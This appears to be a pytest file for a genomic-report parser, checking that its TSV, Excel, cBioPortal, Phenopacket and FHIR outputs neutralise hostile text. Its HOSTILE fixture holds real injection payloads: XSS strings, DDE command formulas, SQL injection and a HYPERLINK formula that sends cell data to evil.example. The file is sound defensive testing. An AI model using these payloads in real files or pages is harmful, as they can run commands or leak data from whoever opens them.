"""Hostile text of a report is data in every file that other programs open: no tag, formula, link, marker or line."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fhir.resources.R4B.bundle import Bundle
from google.protobuf.json_format import Parse
from outputs_factory import SETTINGS, calls, finding, option, placed
from phenopackets.schema.v2 import Phenopacket

from her2parse.model import Batch, Coverage, Evidence, NormalizedVariant, Patient, ReportHeader, ReviewNote, Therapy
from her2parse.outputs import write, write_cbioportal, write_phenopackets
from her2parse.outputs.text import clean

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "tabs": "one\ttwo\r\nthree\x0bfour\x00five\x85six\u2028seven",
    "tab first": "\t=1+1",
    "turned": "\u202e)3102( detcefed ton\u202c \u2066x\u2069 \u200f\u061c",
    "long": "x" * 10_000,
    "quotes": "\"'`; DROP TABLE a; --",
    "half": "\ud800 half a character \ufffe",
    "keys": "stable_id: other\ncase_list_ids: R1",
    "curie": "NCIT:C1 {\"id\": 1} ${x} {{7*7}} %s \\u0000",
}  # fmt: skip


def patient(text: str) -> tuple[Patient, Any]:
    """A report that carries the text wherever a report or a sheet can put its own words."""
    place = Evidence(1, 1.0, 2.0, 3.0, 4.0, text)
    named = NormalizedVariant("ERBB2", text, "invalid", note=text, fusion=text, variant_class=text)
    kinds = ("small_variant", "copy_number", "fusion", "splice", "expression", "signature")
    found = [
        replace(
            finding("h.pdf", gene, text, kind=kind, evidence=place, copy_number_text=text, fusion=text,
                    oncogenicity="oncogenic", oncogenicity_source=text, her2_class="", normalized=named),
            finding_id=f"Rh-{kind}-{at}",
        )
        for kind in kinds for at, gene in enumerate(("ERBB2", text))
    ]  # fmt: skip
    header = ReportHeader(lab=text, assay=text, coverage=Coverage(small_variant=(text,), fusion=(text,)))
    report = placed("h.pdf", text, tuple(found), header=header, diagnosis=text, source_file=f"{text[:50]}.pdf",
                    calls=calls("h.pdf", "positive", "negative"),
                    notes=(ReviewNote("unknown_assay", text, 1, text),))  # fmt: skip
    therapy = Therapy((), text, "other", None, "2026-01-01", "", text, text, "sheet")
    made = Patient(text, (report,), (therapy,))
    return made, option(text, found[0], text, "in_label", biomarker=text, monitoring=text, note=text)


@pytest.fixture(scope="module", params=HOSTILE, ids=list(HOSTILE))
def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    text = HOSTILE[request.param]
    out = tmp_path_factory.mktemp("hostile")
    made, advised = patient(text)
    write(out, patients=[made], options=[advised], batch=Batch(()), settings=SETTINGS, crops={},
          knowledge_version="1", knowledge_hash="a", versions={})  # fmt: skip
    write_cbioportal(out, [made], SETTINGS)
    write_phenopackets(out, [made], SETTINGS, [advised])
    return text, out


MARKS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufffe\uffff")


def test_no_control_character_and_no_mark_anywhere(written: tuple[str, Path]) -> None:
    _, out = written
    seen = 0
    for path in out.rglob("*"):
        if path.suffix in (".tsv", ".txt", ".json", ".html"):
            text = path.read_text("utf-8")
            seen += 1
            assert not set(text) & (MARKS | {"\x00", "\x0b", "\x85", "\r", "\u2028"}), path
    assert seen > 20


def cells(out: Path) -> Iterator[tuple[Path, str]]:
    for path in sorted(out.rglob("*")):
        if path.suffix == ".tsv" or path.name.startswith("data_"):
            lines = path.read_text("utf-8").split("\n")
            head = next(line for line in lines if not line.startswith("#")).split("\t")
            quoting = csv.QUOTE_MINIMAL if path.suffix == ".tsv" else csv.QUOTE_NONE
            kept = "\n".join(line for line in lines if not line.startswith("#"))
            for row in csv.reader(io.StringIO(kept, newline=""), delimiter="\t", quoting=quoting):
                assert len(row) == len(head), (path, row)
                yield from ((path, cell) for cell in row)


def test_no_cell_of_a_table_is_a_formula(written: tuple[str, Path]) -> None:
    _, out = written
    fine = ("+", "-", "++", "-1", "-2")
    wrong = [
        (path.name, cell) for path, cell in cells(out) if cell.startswith(("=", "+", "-", "@")) and cell not in fine
    ]
    assert not wrong


def test_the_workbook_holds_text(written: tuple[str, Path]) -> None:
    text, out = written
    book = openpyxl.load_workbook(out / "tables.xlsx")
    found = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert "f" not in {cell.data_type for cell in found}
    assert not [cell for cell in found if cell.hyperlink]
    assert clean(text) in {cell.value for cell in found}
    with zipfile.ZipFile(out / "tables.xlsx") as archive:
        names = archive.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name.lower() or "_rels/sheet" in name]


def test_json_is_read_by_the_packages_of_its_formats(written: tuple[str, Path]) -> None:
    text, out = written
    (packet,) = (out / "phenopackets").glob("*.json")
    read = Parse(packet.read_text("utf-8"), Phenopacket())
    assert read.medical_actions[0].therapeutic_regimen.ontology_class.label == clean(text)
    (made,) = (out / "fhir").glob("*.json")
    Bundle.model_validate_json(made.read_text("utf-8"))
    assert json.dumps(clean(text), ensure_ascii=False)[1:-1] in made.read_text("utf-8")


def test_the_study_keeps_to_the_rules(written: tuple[str, Path]) -> None:
    from cbioportal_rules import CHECKS

    _, out = written
    folder = out / "cbioportal"
    files = {
        path.relative_to(folder).as_posix(): path.read_text("utf-8") for path in folder.rglob("*") if path.is_file()
    }
    assert {rule: list(check(files)) for rule, check in CHECKS.items() if list(check(files))} == {}


def test_a_file_is_called_by_harmless_letters(written: tuple[str, Path]) -> None:
    _, out = written
    for path in out.rglob("*"):
        assert path.resolve().is_relative_to(out.resolve())
        assert set(path.name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-"), path
        assert len(path.name) < 130
